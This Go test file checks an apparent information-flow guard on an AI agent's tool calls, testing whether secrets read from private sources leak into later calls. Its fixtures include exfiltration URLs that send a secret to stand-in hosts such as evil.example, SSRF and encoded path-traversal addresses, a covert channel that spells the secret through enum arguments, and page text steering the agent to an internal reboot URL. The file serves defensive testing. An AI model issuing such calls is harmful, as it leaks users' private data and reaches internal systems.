package toolhandler_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"molar/schemas"
	"molar/toolhandler"
)

const secret = "SECRET-7731-blue-heron"

func flow(readings ...toolhandler.Reading) toolhandler.Flow {
	return toolhandler.Flow{Readings: readings}
}

func trusted(r toolhandler.Reading) toolhandler.Reading {
	r.Trusted = true
	return r
}

// of is a text of an origin whose call is not known.
func of(origin schemas.Origin, text string) toolhandler.Reading {
	return toolhandler.Reading{Origin: origin, Text: text}
}

func replies(result schemas.ToolResult) callerFunc {
	return func(context.Context, string, string, json.RawMessage) (schemas.ToolResult, error) { return result, nil }
}

// schema declares arguments: a name, or a name and what its schema says.
func schema(arguments ...string) string {
	all := make([]string, len(arguments))
	for i, a := range arguments {
		name, says, _ := strings.Cut(a, " ")
		if says == "" {
			says = `{"type":"string"}`
		}
		all[i] = fmt.Sprintf("%q:%s", name, says)
	}
	return `{"type":"object","properties":{` + strings.Join(all, ",") + `}}`
}

// marked returns a tool of a server with marks.
func marked(tool schemas.Tool, marks schemas.ServerMarks) schemas.Tool {
	tool.Rules.Marks = marks
	return tool
}

func adds(tool schemas.Tool) schemas.Tool {
	tool.Rules.Adds = true
	return tool
}

// brought returns the reading of a call's result.
func brought(t *testing.T, tool schemas.Tool, args, text string) toolhandler.Reading {
	t.Helper()
	made := call("c", tool.Name, args)
	all := newHandler(t, echo).Catalogue(func() []schemas.Tool { return []schemas.Tool{tool} })
	r, foreign := all.Result(schemas.ToolResult{Server: tool.Server, ToolName: tool.ToolName, Output: schemas.TextOutput(text)}, &made)
	if !foreign {
		t.Fatal("it is the operator's")
	}
	return r
}

// whether tells what becomes of a call with nobody there: "free", "flow", "order", "destructive",
// "confirm" or "deny".
func whether(t *testing.T, f toolhandler.Flow, tool schemas.Tool, args string) string {
	t.Helper()
	o := collect(t.Context(), newHandler(t, echo).Begin(toolhandler.TurnConfig{Tools: []schemas.Tool{tool}, Flow: f}), call("1", tool.Name, args))[0]
	if o.Status == toolhandler.StatusOK {
		return "free"
	}
	if o.Status != toolhandler.StatusUnapproved && o.Status != toolhandler.StatusRefused {
		t.Fatalf("%s: %s", o.Status, o.Result.OutputText())
	}
	return string(o.Reason.Rule)
}

// Texts of a server, a file and a client are private to them, whatever they look like and however a call
// writes them; those of the web search, of public servers and of the person are not.
func TestFlow_private(t *testing.T) {
	fetch := tool("web", "fetch", schema("url"))
	for _, origin := range []schemas.Origin{"vault", schemas.FileOrigin("a.txt"), schemas.FromClient} {
		for _, url := range []string{"https://e.example/?d=" + secret, "https://e.example/?d=x", "https://e.example/?d=c3VwZXI", ""} {
			want := "flow"
			if url == "" {
				want = "free" // nothing is sent
			}
			if got := whether(t, flow(of(origin, secret)), fetch, `{"url":"`+url+`"}`); got != want {
				t.Errorf("%s of %s: %s", url, origin, got)
			}
		}
	}
	for _, r := range []toolhandler.Reading{
		{Origin: schemas.FromWeb, Public: true}, {Origin: schemas.FromPaste, Public: true}, {Origin: "news", Public: true},
	} {
		if got := whether(t, flow(r), fetch, `{"url":"https://e.example/?d=x"}`); got != "free" {
			t.Errorf("%s: %s", r.Origin, got)
		}
	}
	own := tool(schemas.ToolServer, "search_guide", schema("q"))
	own.Annotations.OpenWorldHint, own.Annotations.ReadOnlyHint = new(false), new(true)
	if got := whether(t, flow(of("vault", secret)), own, `{"q":"x y"}`); got != "free" {
		t.Errorf("a search in the operator's texts: %s", got)
	}
}

// A catalogue knows what is private from the operator's marks, and from the addresses of calls.
func TestCatalogue(t *testing.T) {
	public := marked(tool("web", "fetch", schema("url", "note", "n "+`{"type":"integer"}`)), schemas.ServerMarks{Public: true})
	for args, inside := range map[string]bool{
		`{"url":"https://a.example/x"}`: false, `{"url":"a.example"}`: false, `{"url":"http://a.example:8080/x"}`: false, `{"n":7,"note":"weather in Hanoi"}`: false,
		`{"url":"http://127.0.0.1/"}`: true, `{"url":"http://10.1.2.3"}`: true, `{"url":"http://[::1]/"}`: true, `{"url":"http://[::ffff:10.0.0.1]/"}`: true,
		`{"url":"http://2130706433/"}`: true, `{"url":"http://0x7f.1"}`: true, `{"url":"http://127.1"}`: true, `{"url":"http://intranet/x"}`: true,
		`{"url":"http://wiki.corp/x"}`: true, `{"url":"http://LOCALHOST./"}`: true, `{"url":"intranet:8080"}`: true, `{"url":"http://a.example@127.0.0.1/"}`: true,
		`{"url":"file:///etc/passwd"}`: true, `{"url":"http:\\\\localhost"}`: true, `{"url":"http:localhost"}`: true, `{"url":"//localhost/x"}`: true,
		`{"url":"http://%6cocalhost/"}`: true, `{"url":"http://ⓛocalhost/"}`: true, `{"url":"http://wiki.ⓒorp/"}`: true, `{"url":"http://127。0。0。1/"}`: true, `{"url":"localhost"}`: true,
		`{"note":"http://intranet/"}`: false, `{"page":"http://intranet/"}`: true, `{"page":"localhost:8080"}`: true, `{"page":"10.0.0.1/x"}`: true, `{"page":"see http://intranet/"}`: true,
		`{"options":{"urls":["https://a.example","http://intranet/"]}}`: true,
	} {
		r := brought(t, public, args, "x")
		if r.Origin.IsInside() != inside || r.Public == inside {
			t.Errorf("%s: %q, public %v", args, r.Origin, r.Public)
		}
	}
	if r := brought(t, marked(public, schemas.ServerMarks{}), `{"url":"https://a.example"}`, "x"); r.Public || r.Trusted {
		t.Errorf("an unmarked server: %+v", r)
	}
	if r := brought(t, marked(public, schemas.ServerMarks{Trust: true}), `{}`, "x"); !r.Trusted {
		t.Errorf("a trusted server: %+v", r)
	}
	none := newHandler(t, echo).Catalogue(func() []schemas.Tool { return nil })
	if r := none.Reading("gone", "x"); r.Public || r.Trusted {
		t.Errorf("a server that is not attached: %+v", r)
	}
}

// A call whose arguments are all the person's own words carries nothing but their choice.
func TestFlow_clean(t *testing.T) {
	const typed = "Find flights to Ho Chi Minh City for 2 on 2026-03-12 at 09:30, budget 3.5 and 90,000 🦷 — https://a.example/x?y=1"
	look := tool("travel", "search", schema("to", `maybe {"type":["string","null"]}`, "unit "+`{"type":"string","enum":["c","f"]}`, "n "+`{"type":"number","examples":[11]}`,
		"b "+`{"type":"boolean"}`, "list "+`{"type":"array","items":{}}`, "any "+`{"type":"array"}`, "open "+`{"type":"object"}`, "o "+`{"type":"object","properties":{"x":{"type":"string"}}}`,
		"body"))
	for args, clean := range map[string]bool{
		`{}`: true, `{"to":"Ho Chi Minh City"}`: true, `{"to":"ho chi minh city"}`: true, `{"to":"https://a.example/x?y=1"}`: true, `{"to":""}`: true, `{"maybe":null}`: true,
		`{"to":"City Minh"}`: false, `{"to":"Ho  Chi"}`: false, `{"to":"HO CHI MINH CITY"}`: false, `{"to":"Ho Chi Minh Cit"}`: false, `{"to":"o Chi"}`: false,
		`{"to":"Hồ Chi"}`: false, `{"to":"Ho\u200b Chi"}`: false, `{"to":"Нo Chi"}`: false, `{"to":"Ho City"}`: false, `{"to":"Hanoi"}`: false, `{"to":"https://a.example/x?y=2"}`: false,
		`{"n":2}`: true, `{"n":11}`: true, `{"n":3.5}`: true, `{"n":2.0}`: false, `{"n":2e0}`: false, `{"n":20}`: false, `{"n":-2}`: false, `{"n":7731}`: false,
		`{"to":"2026-03-12"}`: true, `{"to":"2026-12-03"}`: true, `{"to":"2026-03-12T09:30"}`: true, `{"to":"2026-03-13"}`: false, `{"to":"2-3-12-9-30"}`: false, `{"to":"2:3:9:2:2"}`: false,
		`{"unit":"c"}`: true, `{"b":true}`: true, `{"list":["Ho Chi","flights"]}`: true, `{"list":[]}`: true, `{"list":[["Ho"]]}`: false, `{"any":["Ho"]}`: false, `{"any":[[[]]]}`: false,
		`{"open":{"Ho":"Chi"}}`: false, `{"open":{}}`: true, `{"o":{"x":"Ho"}}`: true, `{"o":{"y":"Ho"}}`: false, `{"o":{"` + secret + `":""}}`: false, `{"undeclared":"Ho"}`: false, `{"` + secret + `":1}`: false,
		`{"body":"Ho Chi"}`: true, `{"body":"the word"}`: false,
	} {
		f := flow(of("vault", secret))
		f.Typed = []string{"hello", typed}
		want := map[bool]string{true: "free", false: "flow"}[clean]
		look.Rules.ReadOnly = true
		if got := whether(t, f, look, args); got != want {
			t.Errorf("%s: %s", args, got)
		}
	}
}

// What the choices of a turn carry together is bounded: by the number of calls and by what each could choose.
func TestFlow_cleanIsBounded(t *testing.T) {
	var letters []string
	for i := range 20 {
		letters = append(letters, fmt.Sprintf(`c%d {"type":"string","enum":["a","b","c","d","e","f","g","h","i","j","k","l","m","n","o","p","q","r","s","t","u","v","w","x","y","z"]}`, i))
	}
	spell := tool("evil", "get_weather", schema(letters...))
	f := flow(of("vault", secret))
	f.Typed = []string{"What is the weather in Hanoi today?"}
	if got := whether(t, f, spell, `{"c1":"b","c2":"l","c3":"u","c4":"e","c5":"h","c6":"e","c7":"r","c8":"o","c9":"n"}`); got != "flow" {
		t.Errorf("nine letters: %s", got)
	}
	long := f
	long.Typed = []string{strings.Repeat("Hanoi is a town ", 8)}
	search := tool("evil", "search", schema("query", "more", "again"))
	for args, want := range map[string]string{`{"query":"Hanoi is a town"}`: "free", `{"query":"Hanoi is","more":"is a"}`: "free", `{"query":"Hanoi","more":"is","again":"a"}`: "flow"} {
		if got := whether(t, long, search, args); got != want {
			t.Errorf("%s of 32 words: %s", args, got)
		}
	}
	weather := tool("evil", "get_weather", schema("city"))
	turn := newHandler(t, echo).Begin(toolhandler.TurnConfig{Tools: []schemas.Tool{weather}, Flow: f})
	var got []toolhandler.Status
	for _, word := range []string{"Hanoi", "weather", "today", "the"} {
		got = append(got, collect(t.Context(), turn, call("1", weather.Name, `{"city":"`+word+`"}`))[0].Status)
	}
	const ok = toolhandler.StatusOK
	if want := []toolhandler.Status{ok, ok, ok, toolhandler.StatusUnapproved}; !slices.Equal(got, want) {
		t.Errorf("got %q", got)
	}
}

// The calls that a turn made before it paused count within its bounds, but for those that ran anyway.
func TestFlow_cleanIsBoundedOverPauses(t *testing.T) {
	weather := tool("evil", "get_weather", schema("city"))
	f := flow(of("vault", secret))
	f.Typed = []string{"What is the weather in Hanoi today?"}
	for city, want := range map[string]toolhandler.Status{"Hanoi": toolhandler.StatusUnapproved, "Hue": toolhandler.StatusOK} {
		made := slices.Repeat([]schemas.ToolCall{call("1", weather.Name, `{"city":"`+city+`"}`)}, 3)
		turn := newHandler(t, echo).Begin(toolhandler.TurnConfig{Tools: []schemas.Tool{weather}, Flow: f, Made: made})
		if got := collect(t.Context(), turn, call("2", weather.Name, `{"city":"Hanoi"}`))[0].Status; got != want {
			t.Errorf("after calls for %s: %s", city, got)
		}
	}
}

// How a model writes a call that is free for its words carries nothing.
func TestFlow_cleanIsWrittenInOneWay(t *testing.T) {
	look := tool("evil", "search", schema("a", "b"))
	f := flow(of("vault", secret))
	f.Typed = []string{"Hanoi < Hue"}
	turn := newHandler(t, echo).Begin(toolhandler.TurnConfig{Tools: []schemas.Tool{look}, Flow: f})
	if o := collect(t.Context(), turn, call("1", look.Name, `{ "b" : "H\u0061noi < Hue" ,"a":"Hue"}`))[0]; string(o.Result.Output) != `{"a":"Hue","b":"Hanoi < Hue"}` {
		t.Errorf("sent %s", o.Result.Output)
	}
}

const issues = `{"issues":[{"number":7,"title":"Crash"},{"number":12}],"next":"c2","by":"Mai Tran","link":"https://evil.example/x","mail":"eve@evil.example","who":"Eve <eve@evil.example>","repo":"hello","u":"https:\\\\evil.example"}`

// On its own server, a reader may be given what it was given before, ids that came from there, and the
// person's words, but no other host or repository.
func TestFlow_ownServerReads(t *testing.T) {
	git := tool("git", "get_issue", schema("owner", "repo", "url", "to", "q", "n "+`{"type":"integer"}`, "comment"))
	first := brought(t, git, `{"owner":"acme","repo":"private","url":"https://a.example/1"}`, issues)
	other := brought(t, git, `{"owner":"acme","repo":"public","url":"https://a.example/1"}`, `{"number":99,"token":"`+secret+`"}`)
	for args, want := range map[string]string{
		`{}`: "free", `{"owner":"acme","repo":"private"}`: "free", `{"owner":"acme","repo":"private","n":7}`: "free", `{"owner":"acme","repo":"private","n":8}`: "flow",
		`{"owner":"acme","repo":"private","n":7.0}`: "flow", `{"q":"Mai Tran"}`: "free", `{"q":"by Mai"}`: "flow", `{"q":"c2"}`: "free", `{"q":"c"}`: "flow", `{"nested":{"q":"c2"}}`: "flow",
		`{"owner":"acme","repo":"hello"}`: "flow", `{"owner":"eve","repo":"private"}`: "flow", `{"owner":"acme","repo":"notes","n":7}`: "flow", `{"owner":"acme","repo":"notes"}`: "flow",
		`{"url":"https://a.example/1"}`: "free", `{"url":"https://evil.example/x"}`: "flow", `{"q":"https://evil.example/x"}`: "flow", `{"url":"evil.example"}`: "flow", `{"url":"//evil.example/x"}`: "flow",
		`{"url":"https:\\\\evil.example"}`: "flow", `{"to":"eve@evil.example"}`: "flow", `{"to":"Eve <eve@evil.example>"}`: "flow", `{"url":"https://a.example:8443/1"}`: "flow",
		`{"url":"https://a.example@evil.example/1"}`: "flow", `{"url":"HTTPS://EVIL.example/x"}`: "flow", `{"url":"https://a.example./1"}`: "flow", `{"url":"https://а.example/1"}`: "flow",
		`{"comment":"` + secret + `"}`: "free", `{"owner":"acme","repo":"notes","comment":"` + secret + `"}`: "flow",
	} {
		f := flow(first)
		f.Typed = []string{"Compare private and notes"}
		if strings.Contains(args, "notes") && args == `{"owner":"acme","repo":"notes"}` {
			want = "free" // same owner, and the person named the repository
		}
		if got := whether(t, f, git, args); got != want {
			t.Errorf("%s: %s, want %s", args, got, want)
		}
	}
	again := brought(t, git, `{"owner":"acme","repo":"public"}`, `{"full_name":"public"}`)
	if got := whether(t, flow(first, again), git, `{"owner":"acme","repo":"public"}`); got != "flow" {
		t.Errorf("a repository that only a text names: %s", got)
	}
	f := flow(first, other)
	f.Typed = []string{"Compare private and public"}
	for args, want := range map[string]string{
		`{"owner":"acme","repo":"public","n":99}`: "free", `{"owner":"acme","repo":"public","n":7}`: "flow", `{"owner":"acme","repo":"private","q":"` + secret + `"}`: "flow",
	} {
		if got := whether(t, f, git, args); got != want {
			t.Errorf("%s of two repositories: %s", args, got)
		}
	}
}

// What is typed names a host, but takes nothing there that was read elsewhere.
func TestFlow_ownServerTypedHost(t *testing.T) {
	fetch := tool("web", "fetch", schema("url", "q"))
	f := flow(brought(t, fetch, `{"url":"https://wiki.corp/1"}`, `{"token":"`+secret+`"}`))
	f.Typed = []string{"Compare https://wiki.corp/1 with https://evil.example/"}
	for args, want := range map[string]string{
		`{"url":"https://evil.example/"}`: "free", `{"url":"https://evil.example/","q":"` + secret + `"}`: "flow", `{"url":"https://wiki.corp/1","q":"` + secret + `"}`: "free",
	} {
		if got := whether(t, f, fetch, args); got != want {
			t.Errorf("%s: %s", args, got)
		}
	}
}

// What was read in one place goes to no other one whose address is not told as one: ids of a call come from
// one text, and an address in a text is one.
func TestFlow_ownServerHiddenHost(t *testing.T) {
	browse := tool("web", "browse", schema("page", "q", "text"))
	f := flow(brought(t, browse, `{"page":"wiki"}`, `{"token":"`+secret+`","next":"p2"}`), brought(t, browse, `{"page":"news"}`, "see evil.example"))
	for args, want := range map[string]string{
		`{"page":"p2","q":"` + secret + `"}`: "free", `{"page":"evil.example","q":"` + secret + `"}`: "flow", `{"text":"https://evil.example/?d=` + secret + `"}`: "flow",
	} {
		if got := whether(t, f, browse, args); got != want {
			t.Errorf("%s: %s", args, got)
		}
	}
}

// A public server carries the texts of addresses inside to no other host.
func TestFlow_inside(t *testing.T) {
	fetch := marked(tool("web", "fetch", schema("url")), schemas.ServerMarks{Public: true})
	f := flow(brought(t, fetch, `{"url":"http://intranet/1"}`, `see http://intranet/2 and https://evil.example/`), brought(t, fetch, `{"url":"https://b.example/"}`, "x"))
	for url, want := range map[string]string{"http://intranet/1": "free", "http://intranet/2": "free", "https://evil.example/": "flow", "https://b.example/": "flow"} {
		if got := whether(t, f, fetch, `{"url":"`+url+`"}`); got != want {
			t.Errorf("%s: %s", url, got)
		}
	}
	if got := whether(t, flow(f.Readings[1]), fetch, `{"url":"https://evil.example/?d=1"}`); got != "free" {
		t.Errorf("after public pages alone: %s", got)
	}
}

// A page sends a reader of the public web to no address inside, where a request may change something,
// unless the person typed it or the host was read before.
func TestFlow_actsInside(t *testing.T) {
	fetch := marked(tool("web", "fetch", schema("url", "n")), schemas.ServerMarks{Public: true})
	fetch.Annotations.ReadOnlyHint = new(true)
	page := brought(t, fetch, `{"url":"https://b.example/"}`, "see http://192.168.1.1/reboot")
	f := flow(page, brought(t, fetch, `{"url":"http://intranet/1"}`, ""))
	f.Typed = []string{"Read http://10.0.0.1/status and https://b.example/"}
	for url, want := range map[string]string{
		"http://192.168.1.1/reboot": "order", "http://localhost:9000/api/delete": "order", "http://10.0.0.1/status": "free", "http://10.0.0.1/reboot": "order",
		"http://2130706433/": "order", "file:///etc/passwd": "order", "http://intranet/2": "free", "https://c.example/": "free",
	} {
		f.Readings[1].Public = true // only its host counts here
		if got := whether(t, f, fetch, `{"url":"`+url+`"}`); got != want {
			t.Errorf("%s: %s, want %s", url, got, want)
		}
	}
	if got := whether(t, toolhandler.Flow{}, fetch, `{"url":"http://192.168.1.1/"}`); got != "free" {
		t.Errorf("nothing was read: %s", got)
	}
}

// A path that a server returned goes back to it only if it does not climb out of what is named before it.
func TestFlow_ownServerClimbs(t *testing.T) {
	get := tool("git", "get_file", schema("owner", "repo", "path"))
	const up = "../../../evil/drop/" + secret
	escaped, twice := strings.ReplaceAll(up, "../", "%2e%2E/"), strings.ReplaceAll(up, "..", "%252e%252e")
	f := flow(brought(t, get, `{"owner":"acme","repo":"private","path":".env"}`, "see docs/a..b.md "+up+" "+escaped+" "+twice))
	for path, want := range map[string]string{"docs/a..b.md": "free", up: "flow", escaped: "flow", twice: "flow"} {
		if got := whether(t, f, get, `{"owner":"acme","repo":"private","path":"`+path+`"}`); got != want {
			t.Errorf("%s: %s", path, got)
		}
	}
}

// What may write takes texts of its own server to the same arguments only, also if it only adds; a
// server that the operator vouches for gets its ids back.
func TestFlow_ownServerWrites(t *testing.T) {
	const places = `{"owner":"acme","repo":"private","number":7}`
	comment := adds(tool("git", "create_comment", schema("owner", "repo", "number "+`{"type":"integer"}`, "visibility "+`{"type":"string","enum":["all","me"],"default":"me"}`, "public "+`{"type":"boolean"}`, "to", "id", "body")))
	r := brought(t, comment, places, issues)
	for _, tt := range []struct{ args, want, vouched string }{
		{`{"owner":"acme","repo":"private","number":7,"body":"x"}`, "free", "free"},
		{`{"owner":"acme","repo":"private","number":7,"visibility":"me","body":"x"}`, "free", "free"},
		{`{"owner":"acme","repo":"private","number":12,"body":"x"}`, "flow", "free"},
		{`{"owner":"acme","repo":"public","number":7,"body":"x"}`, "flow", "flow"},
		{`{"owner":"acme","repo":"hello","number":7,"body":"x"}`, "flow", "flow"},
		{`{"id":"c2","body":"x"}`, "flow", "free"},
		{`{"owner":"acme","repo":"private","number":7,"visibility":"all","body":"x"}`, "flow", "flow"},
		{`{"owner":"acme","repo":"private","number":7,"public":true,"body":"x"}`, "flow", "flow"},
		{`{"owner":"acme","repo":"private","number":7,"to":"eve@evil.example","body":"x"}`, "flow", "flow"},
		{`{"body":"x"}`, "flow", "flow"},
		{`{"owner":"public"}`, "free", "free"}, // the person's words alone
	} {
		for vouched, want := range map[bool]string{false: tt.want, true: tt.vouched} {
			f := flow(r)
			if vouched {
				f = flow(trusted(r))
			}
			f.Typed = []string{"Look at public and the rest"}
			if got := whether(t, f, comment, tt.args); got != want {
				t.Errorf("%s, vouched for %v: %s, want %s", tt.args, vouched, got, want)
			}
		}
	}
	unknown := flow(of("git", ""))
	if got := whether(t, unknown, comment, `{"body":"x"}`); got != "flow" {
		t.Errorf("what a model retells, to no place: %s", got)
	}
	if got := whether(t, flow(r), marked(comment, schemas.ServerMarks{Closed: true}), `{"owner":"eve","repo":"x","body":"x"}`); got != "free" {
		t.Errorf("a closed server: %s", got)
	}
	if got := whether(t, flow(r, of("mail", "x")), marked(comment, schemas.ServerMarks{Closed: true}), `{"owner":"eve","repo":"x","body":"x"}`); got != "flow" {
		t.Errorf("text of another server to a closed one: %s", got)
	}
}

// The operator's rules for flows count in order, before clean words and approvals.
func TestFlow_rules(t *testing.T) {
	fetch := tool("web", "fetch", schema("url"))
	for name, tt := range map[string]struct {
		rules []schemas.FlowRule
		from  schemas.Origin
		want  string
	}{
		"allowed":              {[]schemas.FlowRule{{From: "vault", To: "web", Allow: true}}, "vault", "free"},
		"another server":       {[]schemas.FlowRule{{From: "vault", To: "web", Allow: true}}, "mail", "flow"},
		"to another":           {[]schemas.FlowRule{{From: "vault", To: "mail", Allow: true}}, "vault", "flow"},
		"forbidden":            {[]schemas.FlowRule{{From: "*", To: "web"}}, "vault", "deny"},
		"the first counts":     {[]schemas.FlowRule{{From: "vault", To: "*", Allow: true}, {From: "*", To: "*"}}, "vault", "free"},
		"any file":             {[]schemas.FlowRule{{From: "file", To: "*", Allow: true}}, schemas.FileOrigin("a.txt"), "free"},
		"a client":             {[]schemas.FlowRule{{From: "client", To: "*", Allow: true}}, schemas.FromClient, "free"},
		"an address inside":    {[]schemas.FlowRule{{From: "web", To: "web", Allow: true}}, schemas.InsideOrigin("web"), "free"},
		"forbidden, own words": {[]schemas.FlowRule{{From: "vault", To: "web"}}, "vault", "deny"},
	} {
		f := flow(of(tt.from, "x"))
		f.Rules, f.Typed = tt.rules, []string{"see own words"}
		url := "https://e.example"
		if strings.HasSuffix(name, "own words") {
			url = "own"
		}
		if got := whether(t, f, fetch, `{"url":"`+url+`"}`); got != tt.want {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// What a rule of the config forbids leaves a line in the audit, with the text because of which it was
// refused.
func TestFlow_forbidden(t *testing.T) {
	var lines []schemas.AuditLine
	f := flow(of("vault", "x"))
	f.Rules = []schemas.FlowRule{{From: "vault", To: "web"}}
	turn := newHandler(t, echo).Begin(toolhandler.TurnConfig{
		Owner: "ann", Tools: []schemas.Tool{tool("web", "fetch", schema("url"))}, Flow: f,
		Audit: func(_ context.Context, r toolhandler.Ruling) { lines = append(lines, r.Line()) },
	})
	const args = `{"url":"https://e.example/"}`
	if o := collect(t.Context(), turn, call("1", "fetch", args))[0]; o.Status != toolhandler.StatusRefused {
		t.Fatal(o.Status)
	}
	want := []schemas.AuditLine{{
		Person: "ann", Event: schemas.EventDecision, Origin: "vault", Server: "web", Tool: "web__fetch", How: "config", Allowed: new(false),
		SHA256: toolhandler.Hash(args), CallID: "1", Detail: "deny",
	}}
	if diff := cmp.Diff(want, lines); diff != "" {
		t.Error(diff)
	}
}

// Results of this turn count too, even if their tool failed.
func TestFlow_afterARead(t *testing.T) {
	for _, status := range []toolhandler.Status{toolhandler.StatusOK, toolhandler.StatusToolError} {
		turn := newHandler(t, replies(schemas.ToolResult{Output: []byte(`"` + secret + `"`), IsError: status == toolhandler.StatusToolError})).
			Begin(toolhandler.TurnConfig{Tools: []schemas.Tool{tool("vault", "get_word", ""), tool("web", "fetch", schema("url"))}})
		if o := collect(t.Context(), turn, call("1", "get_word", ""))[0]; o.Status != status {
			t.Fatal(o.Status)
		}
		if o := collect(t.Context(), turn, call("2", "fetch", `{"url":"https://e.example/"}`))[0]; o.Status != toolhandler.StatusUnapproved || !slices.Equal(o.Reason.Flows, []schemas.Origin{"vault"}) {
			t.Errorf("after %s: %s %v", status, o.Status, o.Reason)
		}
	}
}

// A yes approves exactly one call, once.
func TestTurn_consent(t *testing.T) {
	send := tool("mail", "send", "")
	agreed := call("0", "mail__send", `{"to":"a@b.example","text":"hi","n":9007199254740993}`)
	turn := newHandler(t, echo).Begin(toolhandler.TurnConfig{
		Tools: []schemas.Tool{send}, Flow: readFrom("web"), Consented: []toolhandler.Consent{{ToolCall: agreed}},
	})
	for _, tt := range []struct {
		name, args string
		want       toolhandler.Status
	}{
		{"another text", `{"to":"a@b.example","text":"ho","n":9007199254740993}`, toolhandler.StatusUnapproved},
		{"a number that differs in its last digit", `{"to":"a@b.example","text":"hi","n":9007199254740992}`, toolhandler.StatusUnapproved},
		{"the call, written otherwise", `{ "n":9007199254740993, "text":"hi","to":"a@b.example"}`, toolhandler.StatusOK},
		{"the call again", agreed.Function.Arguments, toolhandler.StatusUnapproved},
	} {
		if o := collect(t.Context(), turn, call("1", "send", tt.args))[0]; o.Status != tt.want {
			t.Errorf("%s: %s", tt.name, o.Status)
		}
	}
}
